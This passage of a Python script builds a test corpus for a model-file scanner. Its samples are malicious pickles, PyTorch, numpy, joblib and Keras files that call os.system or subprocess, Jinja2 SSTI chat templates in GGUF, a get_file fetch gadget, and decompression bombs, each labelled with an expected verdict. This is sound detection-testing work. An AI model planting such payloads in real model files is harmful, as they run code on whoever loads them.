        pickle.dumps({"name": "tiny", "layers": [1, 2, 3], "ok": True, "eps": 1e-5}, protocol=0),
        "dict/list/bool/float literals, protocol 0",
    )
    add(
        "ordered_dict_p5.pkl",
        pickle.dumps(OrderedDict([("a", 1), ("b", [1.0, 2.0])]), protocol=5),
        "collections.OrderedDict, protocol 5",
    )


# --------------------------------------------------------------------------------------------
# Issue 14: what other projects' samples showed (frames, broken streams, unhashable keys,
# expansion bombs, pickles carried as data, harmless builtins outside weights files)
# --------------------------------------------------------------------------------------------


def _frame(body: bytes, size: int | None = None) -> bytes:
    return pickle.FRAME + struct.pack("<Q", len(body) if size is None else size) + body


def pickle_evasions(c: Corpus) -> None:
    import __future__

    import collections

    def add(name: str, data: bytes, technique: str, expected: str, **kw: str) -> None:
        c.add(
            name,
            data,
            fmt=kw.pop("fmt", "pickle"),
            technique=technique,
            expected=expected,
            reference=kw.pop("ref", None),
            notes=kw.pop("notes", ""),
        )

    frames = "CPython Lib/pickle.py _Unframer ('pickle exhausted before end of frame')"
    hidden = enc(SYSTEM, 4) + enc((SHELL,), 4) + pickle.REDUCE + pickle.STOP
    hidden += pickle.NONE * (263 - len(hidden))
    size = struct.pack("<I", 263)
    add(
        "pickle/frame_crossing_binbytes_p4.pkl",
        b"\x80\x04" + _frame(pickle.BINBYTES + size[:1]) + size[1:] + hidden + pickle.STOP,
        "a FRAME of 2 bytes holds a BINBYTES whose 263-byte length ends outside it: "
        "pickle.loads reads bytes, pickle.load(file) (torch.load, joblib, np.load) leaves the "
        "frame and runs the posix.system call hidden in them",
        "malformed",
        ref=frames + "; issue 14 class 1",
    )
    add(
        "pickle/frame_inside_frame_p4.pkl",
        b"\x80\x04" + _frame(pickle.NONE + pickle.POP + _frame(malicious_p(4)[2:])),
        "a FRAME opening inside another frame (no pickler writes one; the file reader refuses)",
        "malformed",
        ref=frames + " ('beginning of a new frame before end of current frame')",
    )
    nullifai = "nullifAI (ReversingLabs, 2025); issue 14 class 3"
    add(
        "pickle/truncated_p0_import_no_stop.pkl",
        b"cos\nsystem\n(S'tr",
        "protocol-0 stream that imports os.system and ends mid-argument: no PROTO, no STOP",
        "malicious",
        ref=nullifai,
    )
    add(
        "pickle/truncated_p0_call_no_stop.pkl",
        b"cos\nsystem\n(S'true'\ntR",
        "protocol-0 stream that calls os.system and ends without STOP (the call runs first)",
        "malicious",
        ref=nullifai,
    )
    add(
        "pickle/truncated_p0_unknown_class_then_garbage.pkl",
        b"cmymodel\nNet\n)\x81\xff\xfe",
        "protocol-0 stream that builds an unknown class, then bytes that are no opcode: the "
        "construction runs before the stream breaks",
        "malicious",
        ref=nullifai,
    )
    add(
        "pickle/unhashable_dict_own_key_p2.pkl",
        b"\x80\x02}q\x00h\x00K\x01s.",
        "a dict used as its own key through the memo: the loader raises TypeError there",
        "malformed",
        ref="fickling unhashable-cycle samples; issue 14 class 3",
    )
    add(
        "pickle/unhashable_set_adds_itself_p4.pkl",
        b"\x80\x04\x8f\x94(h\x00\x90.",
        "a set added to itself with ADDITEMS",
        "malformed",
        ref="fickling unhashable-cycle samples; issue 14 class 3",
    )
    fanout = b"\x80\x02]q\x00"
    for level in range(1, 10):
        fanout += b"](" + (b"h" + bytes([level - 1])) * 10 + b"eq" + bytes([level])
    bombs = "billion laughs (CWE-776); fickling test_expansion_attack_analysis"
    add(
        "pickle/expansion_memo_fanout_p2.pkl",
        fanout + pickle.STOP,
        "nested lists of memo references, 10 per level over 9 levels: 10**9 objects to walk",
        "suspicious",
        ref=bombs,
    )
    add(
        "pickle/expansion_dup_fanout_p2.pkl",
        b"\x80\x02" + b"(" * 8 + b"]" + (b"2" * 9 + b"l") * 8 + pickle.STOP,
        "DUP fan-out without any memo: each level a list of 10 references to the one below",
        "suspicious",
        ref=bombs,
    )
    inner = malicious_p(2)
    carried = "multistage payloads; issue 14 class 6 (info finding names the embedded globals)"

    def holder(value: object, protocol: int) -> bytes:
        return pickle.dumps({"config": {"lr": 0.1}, "blob": value}, protocol=protocol)

    for name, value, protocol in (
        ("bytes_p4", inner, 4),
        ("hex_p2", inner.hex(), 2),
        ("base64_p4", base64.b64encode(inner).decode(), 4),
        ("multistage_p4", base64.b64encode(holder(inner.hex(), 4)).decode(), 4),
    ):
        add(
            f"pickle/carries_pickle_{name}.pkl",
            holder(value, protocol),
            f"plain data holding a posix.system pickle as {name.rsplit('_', 1)[0]}: never "
            "loaded by this pickle, reported as info for a reviewer",
            "clean",
            ref=carried,
        )
    benign = "issue 14 class 7: harmless outside weights files, info at most"
    harmless: list[tuple[str, object]] = [
        ("builtins_len_dict_p2", {"count": len, "kind": dict, "types": [list, tuple, int]}),
        ("collections_deque_p4", collections.deque([1, 2, 3], maxlen=8)),
        ("future_features_p4", [__future__.annotations, __future__.division]),
    ]
    for name, plain_value in harmless:
        protocol = int(name[-1])
        add(
            f"pickle_benign/{name}.pkl",
            pickle.dumps(plain_value, protocol=protocol),
            f"pickle.dumps of harmless values naming {name.rsplit('_', 1)[0]}",
            "clean",
            ref=benign,
        )
    add(
        "torch/zip_builtins_len_in_data_pkl.pt",
        build_zip(torch_zip_members(pickle.dumps({"count": len, "kind": dict}, protocol=2))),
        "the same harmless builtins inside a torch checkpoint: the weights allowlist stays as "
        "strict as torch's own weights_only loader",
        "suspicious",
        fmt="pytorch-zip",
        ref=benign,
    )


# --------------------------------------------------------------------------------------------
# Containers
# --------------------------------------------------------------------------------------------

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_PROTOCOL = 1001
LEGACY_SYS_INFO = {
    "protocol_version": LEGACY_PROTOCOL,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}


def legacy_stacked(main: bytes, magic: bytes | None = None) -> bytes:
    keys = [k for _, k, _ in TENSORS]
    out = magic if magic is not None else pickle.dumps(LEGACY_MAGIC, protocol=2)
    out += pickle.dumps(LEGACY_PROTOCOL, protocol=2)
    out += pickle.dumps(LEGACY_SYS_INFO, protocol=2)
    out += main
    out += pickle.dumps(keys, protocol=2)
    for k in keys:
        raw = storage_bytes(k)
        out += struct.pack("<q", len(raw) // 4) + raw
    return out


def tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            info.uname = info.gname = ""
            tf.addfile(info, io.BytesIO(data))
    return bio.getvalue()


def npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    d = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    pad = (-(10 + len(d) + 1)) % 64
    header = (d + " " * pad + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def npz(members: list[tuple[str, bytes]]) -> bytes:
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.external_attr = 0o644 << 16
            zf.writestr(info, data)
    return bio.getvalue()


def seven_zip(name: str, data: bytes) -> bytes:
    import py7zr

    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp, name)
        src.write_bytes(data)
        os.chmod(src, 0o644)
        os.utime(src, (0, 0))
        bio = io.BytesIO()
        with py7zr.SevenZipFile(bio, "w") as z:
            z.write(src, name)
        return bio.getvalue()


def bz2_bomb(total: int = 1 << 30, chunk: int = 16 << 20) -> bytes:
    """A multi-stream bz2 whose output is one protocol-4 pickle of a 1 GiB bytes object."""
    head = pickle.PROTO + b"\x04" + pickle.BINBYTES8 + struct.pack("<Q", total)
    zeros = bz2.compress(bytes(chunk), 9)
    out = bz2.compress(head, 9) + zeros * (total // chunk)
    return out + bz2.compress(pickle.STOP, 9)


def containers(c: Corpus) -> None:
    import joblib  # type: ignore[import-untyped]
    import numpy as np

    benign_pkl = state_dict_pickle()
    evil_pkl = malicious_p(2)

    def torch(
        name: str, data: bytes, technique: str, expected: str = "malicious", **kw: str
    ) -> None:
        c.add(
            f"torch/{name}",
            data,
            fmt=kw.pop("fmt", "pytorch-zip"),
            technique=technique,
            expected=expected,
            reference=kw.pop("ref", None),
            notes=kw.pop("notes", ""),
        )

    torch(
        "zip_benign_state_dict.pt",
        build_zip(torch_zip_members(benign_pkl)),
        "torch.save zip layout with a benign state_dict data.pkl",
        expected="clean",
    )
    torch(
        "zip_malicious_data_pkl.pt",
        build_zip(torch_zip_members(evil_pkl)),
        "torch zip whose archive/data.pkl calls posix.system",
    )
    torch(
        "zip_named_dot_weights.weights",
        build_zip(torch_zip_members(evil_pkl)),
        "malicious torch zip under a non-model extension (extension-based routing)",
        notes="torch.load opens any name; route by content",
    )
    members = torch_zip_members(benign_pkl)
    torch(
        "zip_duplicate_data_pkl_names.pt",
        build_zip([ZMember("archive/data.pkl", evil_pkl), *members]),
        "two archive/data.pkl records: malicious first, benign last",
        notes="ZipFile.open(name) resolves to the last record; other readers take the first",
    )
    torch(
        "zip_two_data_pkl_prefixes.pt",
        build_zip([*members, ZMember("zzz/data.pkl", evil_pkl)]),
        "two different */data.pkl members (archive/ and zzz/)",
    )
    torch(
        "zip_hidden_pickle_nonstandard_ext.pt",
        build_zip([*members, ZMember("archive/config.p", evil_pkl)]),
        "malicious pickle in a member with a non-standard extension next to a benign data.pkl",
        ref="CVE-2025-1889",
    )
    torch(
        "zip_local_central_name_mismatch.pt",
        build_zip(
            [
                ZMember("archive/data.pkx", evil_pkl, central_name="archive/data.pkl"),
                *members[1:],
            ]
        ),
        "local header name differs from the central-directory name (zipfile raises)",
        ref="CVE-2025-1944",
    )
    torch(
        "zip_bad_crc_data_pkl.pt",
        build_zip([ZMember("archive/data.pkl", evil_pkl, crc=0xDEADBEEF), *members[1:]]),
        "wrong CRC-32 on data.pkl (zipfile raises; torch does not check)",
        ref="CVE-2025-10156",
    )
    for flag in (0x1, 0x20, 0x40):
        torch(
            f"zip_flag_{flag:#04x}_data_pkl.pt",
            build_zip([ZMember("archive/data.pkl", evil_pkl, flags=flag), *members[1:]]),
            f"general-purpose flag bit {flag:#x} set on data.pkl (zipfile refuses; miniz ignores)",
            ref="CVE-2025-1945",
        )
    torch(
        "zip_polyglot_pickle_prefix.pt",
        build_zip(members, prefix=malicious_p(2)),
        "malicious pickle at offset 0 followed by a valid benign torch zip",
        notes="torch.load sees no PK\\x03\\x04 at offset 0 and unpickles the prefix",
    )
    torch(
        "zip_storage_numel_mismatch.pt",
        build_zip(torch_zip_members(state_dict_pickle(numel_override=1 << 40))),
        "storage persistent id declares 2**40 elements; archive/data/0 holds 4",
        expected="malformed",
        ref="CVE-2026-24747",
    )
    setitems = wrap(
        tensor_ops("0", (2, 2)) + pickle.MARK + enc(0, 2) + enc(1.5, 2) + pickle.SETITEMS, 2
    )
    torch(
        "zip_setitems_on_tensor.pt",
        build_zip(torch_zip_members(setitems)),
        "SETITEMS applied to a rebuilt tensor, not a dict (weights_only heap corruption class)",
        expected="suspicious",
        ref="CVE-2026-24747",
    )
    torch(
        "raw_pickle_named_pytorch_model.bin",
        evil_pkl,
        "raw malicious pickle named like a torch checkpoint (.bin)",
        fmt="pickle",
        ref="CVE-2025-10155",
    )
    torch(
        "raw_pickle_named_model.ckpt",
        evil_pkl,
        "raw malicious pickle under a non-standard extension",
        fmt="pickle",
        notes="extension-based routing class (C1)",
    )
    sys_info = pickle.dumps(LEGACY_SYS_INFO, protocol=2)
    torch(
        "legacy_tar_malicious_pickle.pt",
        tar_bytes(
            [
                ("sys_info", sys_info),
                ("pickle", evil_pkl),
                ("storages", pickle.dumps(0, protocol=2)),
                ("tensors", pickle.dumps(0, protocol=2)),
            ]
        ),
        "legacy torch tar format (sys_info, pickle, storages, tensors) with a malicious pickle",
        fmt="pytorch-legacy-tar",
        ref="CVE-2025-32434",
        notes="weights_only=True was reportedly not enforced on this legacy path before torch "
        "2.6.0 (association as publicly described; PoC not reproduced)",
    )
    main = state_dict_pickle(legacy=True)
    torch(
        "legacy_stacked_benign.pt",
        legacy_stacked(main),
        "legacy stacked format: magic, protocol, sys_info, state_dict, storage keys, raw data",
        expected="clean",
        fmt="pytorch-legacy",
        notes="raw storage bytes follow the last STOP by design",
    )
    torch(
        "legacy_stacked_malicious_main.pt",
        legacy_stacked(evil_pkl),
        "legacy stacked format whose main (4th) pickle calls posix.system",
        fmt="pytorch-legacy",
    )
    torch(
        "legacy_stacked_magic_via_eval.pt",
        legacy_stacked(main, magic=pk(Call(G("builtins", "eval"), (hex(LEGACY_MAGIC),)), 2)),
        "legacy magic number produced by builtins.eval instead of a literal",
        fmt="pytorch-legacy",
        notes="after picklescan's pytorch_magic_bypass test",
    )

    # numpy
    bio = io.BytesIO()
    np.save(bio, np.arange(8, dtype=np.float32).reshape(2, 4))
    plain_npy = bio.getvalue()
    evil_npy = npy_header("|O", (1,)) + malicious_p(3)
    c.add(
        "numpy/float32_array.npy",
        plain_npy,
        fmt="npy",
        technique="plain float32 .npy (no pickle)",
        expected="clean",
    )
    c.add(
        "numpy/object_array_malicious_pickle.npy",
        evil_npy,
        fmt="npy",
        technique="descr '|O' object array whose body is a malicious pickle",
        expected="malicious",
        notes="np.load(allow_pickle=True) unpickles the body",
    )
    c.add(
        "numpy/arrays_benign.npz",
        npz([("w.npy", plain_npy), ("b.npy", plain_npy)]),
        fmt="npz",
        technique="np.savez-style zip of plain arrays",
        expected="clean",
    )
    c.add(
        "numpy/member_object_array_malicious.npz",
        npz([("w.npy", plain_npy), ("evil.npy", evil_npy)]),
        fmt="npz",
        technique=".npz whose member is an object array carrying a malicious pickle",
        expected="malicious",
    )

    # joblib
    with tempfile.TemporaryDirectory() as tmp:
        target = Path(tmp, "m.joblib")
        arrays = {"coef": np.arange(6, dtype=np.float64).reshape(2, 3), "bias": np.zeros(3)}
        joblib.dump(arrays, target)  # dumping is safe; loading is what we never do
        benign_joblib = target.read_bytes()
    c.add(
        "joblib/dict_of_numpy_arrays.joblib",
        benign_joblib,
        fmt="joblib",
        technique="joblib.dump of a dict of numpy arrays (NumpyArrayWrapper + raw array bytes)",
        expected="clean",
        notes="raw array bytes follow the wrapper's BUILD inside the stream (C11 trap); "
        "bytes depend on the joblib/numpy versions",
    )
    c.add(
        "joblib/malicious_reduce.joblib",
        pk({"model": Call(SYSTEM, (SHELL,)), "version": "1.4.2"}, 4),
        fmt="joblib",
        technique="joblib-style dict whose 'model' value is a posix.system REDUCE",
        expected="malicious",
        notes="hand-assembled; joblib.load unpickles plain pickles too",
    )

    # compression wrappers (joblib.load sniffs gzip/bz2/xz; nullifAI shipped 7z)
    def comp(
        name: str, data: bytes, technique: str, expected: str = "malicious", **kw: str
    ) -> None:
        c.add(
            f"compressed/{name}",
            data,
            fmt=kw.pop("fmt"),
            technique=technique,
            expected=expected,
            reference=None,
            notes=kw.pop("notes", ""),
        )

    comp(
        "malicious_pickle.pkl.gz",
        gzip.compress(evil_pkl, 9, mtime=0),
        "gzip-wrapped malicious pickle",
        fmt="gzip",
    )
    comp(
        "malicious_pickle.pkl.bz2",
        bz2.compress(evil_pkl, 9),
        "bz2-wrapped malicious pickle",
        fmt="bz2",
    )
    comp(
        "malicious_pickle.pkl.xz",
        lzma.compress(evil_pkl, format=lzma.FORMAT_XZ),
        "xz-wrapped malicious pickle",
        fmt="xz",
    )
    comp(
        "malicious_torch_zip.7z",
        seven_zip("pytorch_model.bin", build_zip(torch_zip_members(evil_pkl))),
        "7z archive holding a malicious torch zip",
        fmt="7z",
        notes="ReversingLabs nullifAI (7z-compressed PyTorch archives)",
    )
    corrupt_7z = bytearray(seven_zip("model.pkl", benign_pkl))
    corrupt_7z[32] ^= 0xFF  # the first byte of the packed LZMA2 stream, after the 32-byte header
    comp(
        "corrupt_lzma_member.7z",
        bytes(corrupt_7z),
        "7z archive whose LZMA2 member stream is corrupt (LZMAError while extracting)",
        expected="malformed",
        fmt="7z",
        notes="fuzz finding (issue 12): once a scanner crash; a reader refuses it",
    )
    comp(
        "benign_state_dict.pkl.gz",
        gzip.compress(pickle.dumps({"epoch": 3, "lr": 0.01}, protocol=4), 9, mtime=0),
        "gzip-wrapped benign pickle",
        expected="clean",
        fmt="gzip",
    )
    comp(
        "decompression_bomb.pkl.bz2",
        bz2_bomb(),
        "multi-stream bz2 expanding to a 1 GiB pickle (ratio > 100000:1)",
        expected="malformed",
        fmt="bz2",
        notes="must trip the decompressed-size / ratio limits; never decompress fully",
    )


# --------------------------------------------------------------------------------------------
# safetensors
# --------------------------------------------------------------------------------------------


def st_file(header_json: str, data: bytes, header_len: int | None = None) -> bytes:
    raw = header_json.encode()
    raw += b" " * ((-len(raw)) % 8)
    n = len(raw) if header_len is None else header_len
    return struct.pack("<Q", n) + raw + data


def st_header(tensors: dict[str, tuple[str, list[int], list[int]]]) -> str:
    h: dict[str, object] = {"__metadata__": {"format": "pt"}}
    for name, (dtype, shape, offs) in tensors.items():
        h[name] = {"dtype": dtype, "shape": shape, "data_offsets": offs}
    return json.dumps(h, separators=(",", ":"))


def safetensors(c: Corpus) -> None:
    data = bytes(range(32))

    def add(name: str, blob: bytes, technique: str, expected: str = "malformed") -> None:
        c.add(
            f"safetensors/{name}",
            blob,
            fmt="safetensors",
            technique=technique,
            expected=expected,
            notes="" if expected == "clean" else "reference parser rejects it",
        )

    ok = {"a": ("F32", [2, 2], [0, 16]), "b": ("I64", [2], [16, 32])}
    add("valid.safetensors", st_file(st_header(ok), data), "valid header", expected="clean")
    add(
        "gap_between_tensors.safetensors",
        st_file(st_header({"a": ("F32", [2, 2], [0, 16]), "b": ("F32", [2], [24, 32])}), data),
        "hole between tensors (bytes 16..24 belong to nobody)",
    )
    add(
        "overlapping_offsets.safetensors",
        st_file(st_header({"a": ("F32", [2, 2], [0, 16]), "b": ("I64", [2], [8, 24])}), data[:24]),
        "overlapping data_offsets (aliasing)",
    )
    add(
        "dtype_size_mismatch.safetensors",
        st_file(st_header({"a": ("F32", [2, 2], [0, 12])}), data[:12]),
        "prod(shape)*itemsize (16) != end-begin (12)",
    )
    dup = '{"a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]},'
    dup += '"a":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}'
    add(
        "duplicate_key.safetensors",
        st_file(dup, data),
        "duplicate tensor name in the JSON header (parser differential)",
    )
    add(
        "header_len_exceeds_file.safetensors",
        st_file(st_header(ok), data, header_len=1 << 40),
        "header length field claims 1 TiB (> file size, > 100 MB cap)",
    )
    add(
        "offsets_out_of_range.safetensors",
        st_file(st_header({"a": ("F32", [4, 4], [0, 64])}), data),
        "data_offsets past the end of the file",
    )
    add(
        "unknown_dtype.safetensors",
        st_file(st_header({"a": ("F33", [2, 2], [0, 16])}), data[:16]),
        "unknown dtype string",
    )
    add(
        "header_not_json.safetensors",
        st_file("{not json", data),
        "header is not well-formed JSON",
    )


# --------------------------------------------------------------------------------------------
# GGUF (v3): KV metadata with tokenizer.chat_template, one tiny F32 tensor
# --------------------------------------------------------------------------------------------

GGUF_U32, GGUF_STRING, GGUF_ARRAY = 4, 8, 9


def gstr(s: str) -> bytes:
    raw = s.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(template: str | None, *, bad_string_len: bool = False) -> bytes:
    kvs: list[bytes] = []

    def kv(key: str, typ: int, payload: bytes) -> None:
        kvs.append(gstr(key) + struct.pack("<I", typ) + payload)

    kv("general.architecture", GGUF_STRING, gstr("llama"))
    kv("general.name", GGUF_STRING, gstr("corpus-tiny"))
    kv("general.alignment", GGUF_U32, struct.pack("<I", 32))
    tokens = ["<s>", "</s>", "hi"]
    kv(
        "tokenizer.ggml.tokens",
        GGUF_ARRAY,
        struct.pack("<IQ", GGUF_STRING, len(tokens)) + b"".join(gstr(t) for t in tokens),
    )
    if template is not None:
        kv("tokenizer.chat_template", GGUF_STRING, gstr(template))
    if bad_string_len:
        kvs.append(gstr("general.description") + struct.pack("<IQ", GGUF_STRING, 1 << 62))
    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, 1, len(kvs)))
    for k in kvs:
        out += k
    out += gstr("token_embd.weight") + struct.pack("<IQQIQ", 2, 2, 3, 0, 0)
    out += b"\x00" * ((-len(out)) % 32)
    out += b"".join(struct.pack("<f", i / 4) for i in range(6))
    return bytes(out)


CHATML = (
    "{% for message in messages %}"
    "{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}"
    "{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def gguf_files(c: Corpus) -> None:
    def add(name: str, blob: bytes, technique: str, expected: str, ref: str | None = None) -> None:
        c.add(
            f"gguf/{name}",
            blob,
            fmt="gguf",
            technique=technique,
            expected=expected,
            reference=ref,
            notes="payload runs `true` if rendered by an unsandboxed jinja2.Environment"
            if expected == "malicious"
            else "",
        )

    add("chatml_template_benign.gguf", gguf(CHATML), "ordinary ChatML chat_template", "clean")
    add("no_template.gguf", gguf(None), "GGUF without a chat template", "clean")
    subclasses = (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'warning' in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen('true').read() }}"
        "{% endif %}{% endfor %}"
    )
    add(
        "chat_template_ssti_subclasses.gguf",
        gguf(subclasses),
        "chat_template SSTI via ().__class__.__base__.__subclasses__() (llama-cpp-python)",
        "malicious",
        "CVE-2024-34359",
    )
    attr = (
        "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}"
        "{{ messages[0]['content'] }}"
    )
    add(
        "chat_template_attr_filter_dunder.gguf",
        gguf(attr),
        "dunder access hidden behind the |attr filter",
        "malicious",
    )
    cyc = "{{ cycler.__init__.__globals__.os.popen('true').read() }}"
    add(
        "chat_template_cycler_globals.gguf",
        gguf(cyc),
        "cycler.__init__.__globals__.os escape (template globals)",
        "malicious",
    )
    joiner = "{{ joiner.__init__.__globals__['__builtins__']['__import__']('os').system('true') }}"
    add(
        "chat_template_joiner_builtins.gguf",
        gguf(joiner),
        "joiner.__init__.__globals__['__builtins__'] escape",
        "malicious",
    )
    add(
        "string_length_overflow.gguf",
        gguf(CHATML, bad_string_len=True),
        "KV string length 2**62 (past the end of the file)",
        "malformed",
    )


# --------------------------------------------------------------------------------------------
# Keras (.keras zip and legacy .h5)
# --------------------------------------------------------------------------------------------


def _lambda_b64() -> str:
    code = compile("lambda x: __import__('os').system('true') or x", "<corpus>", "eval")
    # the code object of the lambda itself, as Keras func_dump marshals func.__code__
    lam = next(k for k in code.co_consts if hasattr(k, "co_code"))
    return base64.b64encode(marshal.dumps(lam)).decode()


def _k3(module: str, cls: str, config: object, registered: str | None = None) -> dict[str, object]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": registered}


def _k3_dense() -> dict[str, object]:
    return _k3(
        "keras.layers",
        "Dense",
        {
            "name": "dense",
            "trainable": True,
            "dtype": "float32",
            "units": 2,
            "activation": "linear",
            "use_bias": True,
            "kernel_initializer": _k3("keras.initializers", "GlorotUniform", {"seed": None}),
            "bias_initializer": _k3("keras.initializers", "Zeros", {}),
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
    )


def _k3_model(extra_layers: list[dict[str, object]]) -> bytes:
    layers = [
        _k3(
            "keras.layers",
            "InputLayer",
            {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input"},
        ),
        _k3_dense(),
        *extra_layers,
    ]
    model = _k3(
        "keras",
        "Sequential",
        {"name": "sequential", "trainable": True, "dtype": "float32", "layers": layers},
    )
    model["build_config"] = {"input_shape": [None, 4]}
    return json.dumps(model, indent=1).encode()


def _h5(populate: Callable[[object], None]) -> bytes:
    import h5py  # type: ignore[import-untyped]

    bio = io.BytesIO()
    with h5py.File(bio, "w") as f:
        populate(f)
    return bio.getvalue()


def _weights(f: object) -> None:
    import numpy as np

    grp = f.create_group("layers/dense/vars")  # type: ignore[attr-defined]
    grp.create_dataset("0", data=np.arange(8, dtype=np.float32).reshape(4, 2), track_times=False)
    grp.create_dataset("1", data=np.zeros(2, dtype=np.float32), track_times=False)


def keras_archive(config: bytes) -> bytes:
    meta = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode()
    return npz(
        [("metadata.json", meta), ("config.json", config), ("model.weights.h5", _h5(_weights))]
    )


def keras(c: Corpus) -> None:
    def add(
        name: str, blob: bytes, technique: str, expected: str, ref: str | None, notes: str
    ) -> None:
        fmt = "keras-h5" if name.endswith(".h5") else "keras"
        c.add(
            f"keras/{name}",
            blob,
            fmt=fmt,
            technique=technique,
            expected=expected,
            reference=ref,
            notes=notes,
        )

    add(
        "dense_benign.keras",
        keras_archive(_k3_model([])),
        "Keras 3 .keras zip: InputLayer + Dense",
        "clean",
        None,
        "",
    )
    lam = _k3(
        "keras.layers",
        "Lambda",
        {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": _lambda_b64(), "defaults": None, "closure": None},
            },
            "arguments": {},
        },
    )
    add(
        "lambda_layer_marshal.keras",
        keras_archive(_k3_model([lam])),
        "Lambda layer with base64 marshalled bytecode",
        "malicious",
        "CVE-2024-3660",
        "bytecode: lambda x: __import__('os').system('true') or x (CPython 3.11 marshal)",
    )
    inject = _k3("subprocess", "Popen", {"args": [SHELL]}, "Popen")
    add(
        "module_injection_subprocess.keras",
        keras_archive(_k3_model([inject])),
        "config.json layer entry names module 'subprocess' / class 'Popen'",
        "malicious",
        "CVE-2025-1550",
        "arbitrary module import from config.json (fixed in Keras 3.9); payload shape ours",
    )
    get_file = _k3(
        "keras.utils",
        "get_file",
        {"fname": "x", "origin": "http://127.0.0.1:9/x", "cache_dir": "/tmp/modelctl-corpus"},
        "get_file",
    )
    add(
        "get_file_gadget.keras",
        keras_archive(_k3_model([get_file])),
        "in-namespace gadget keras.utils.get_file referenced from config.json",
        "malicious",
        "CVE-2025-8747",
        "file fetch/plant under safe_mode; payload shape ours, not the original PoC",
    )
    unsafe = _k3("keras.config", "enable_unsafe_deserialization", {}, "enable_unsafe")
    add(
        "enable_unsafe_deserialization_gadget.keras",
        keras_archive(_k3_model([unsafe, lam])),
        "keras.config.enable_unsafe_deserialization flips safe_mode off, then a Lambda",
        "malicious",
        None,
        "JFrog report; CVE id not verified (our notes say CVE-2025-9906)",
    )
    k2_layers: list[dict[str, object]] = [
        {
            "class_name": "InputLayer",
            "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"},
        },
        {
            "class_name": "Dense",
            "config": {"name": "dense", "units": 2, "activation": "linear", "use_bias": True},
        },
    ]
    k2_lambda: dict[str, object] = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": [_lambda_b64(), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }

    def legacy(layers: list[dict[str, object]]) -> Callable[[object], None]:
        def populate(f: object) -> None:
            cfg = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}
            f.attrs["keras_version"] = "2.12.0"  # type: ignore[attr-defined]
            f.attrs["backend"] = "tensorflow"  # type: ignore[attr-defined]
            f.attrs["model_config"] = json.dumps(cfg)  # type: ignore[attr-defined]
            _weights(f.create_group("model_weights"))  # type: ignore[attr-defined]

        return populate

    add(
        "legacy_dense_benign.h5",
        _h5(legacy(k2_layers)),
        "legacy HDF5 model with model_config (InputLayer + Dense)",
        "clean",
        None,
        "",
    )
    add(
        "legacy_lambda_model_config.h5",
        _h5(legacy([*k2_layers, k2_lambda])),
        "legacy HDF5 model_config with a Lambda layer (marshalled bytecode)",
        "malicious",
        "CVE-2024-3660",
        "",
    )


# --------------------------------------------------------------------------------------------
# ONNX
# --------------------------------------------------------------------------------------------


def onnx_model(location: str | None = None, custom_domain: str | None = None) -> bytes:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.arange(8, dtype=np.float32).reshape(4, 2), name="W")
    if location is not None:
        w.ClearField("raw_data")
        w.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "32")):
            e = w.external_data.add()
            e.key, e.value = k, v
    nodes = [helper.make_node("MatMul", ["X", "W"], ["Y"], name="matmul")]
    outputs = "Y"
    opsets = [helper.make_opsetid("", 17)]
    if custom_domain:
        nodes.append(helper.make_node("RunNative", ["Y"], ["Z"], domain=custom_domain))
        opsets.append(helper.make_opsetid(custom_domain, 1))
        outputs = "Z"
    graph = helper.make_graph(
        nodes,
        "corpus",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info(outputs, TensorProto.FLOAT, [1, 2])],
        initializer=[w],
    )
    model = helper.make_model(
        graph, producer_name="modelctl-corpus", opset_imports=opsets, ir_version=8
    )
    return bytes(model.SerializeToString())


def onnx_files(c: Corpus) -> None:
    import numpy as np

    def add(name: str, blob: bytes, technique: str, expected: str, ref: str | None = None) -> None:
        c.add(
            f"onnx/{name}",
            blob,
            fmt="onnx",
            technique=technique,
            expected=expected,
            reference=ref,
        )

    add("matmul_benign.onnx", onnx_model(), "MatMul with an inline initializer", "clean")
    add(
        "external_relative/model.onnx",
        onnx_model("weights.bin"),
        "external data at a relative path inside the model folder",
        "clean",
    )
    c.add(
        "onnx/external_relative/weights.bin",
        np.arange(8, dtype=np.float32).tobytes(),
        fmt="raw",
        technique="external-data sidecar of external_relative/model.onnx",
        expected="clean",
    )
    add(
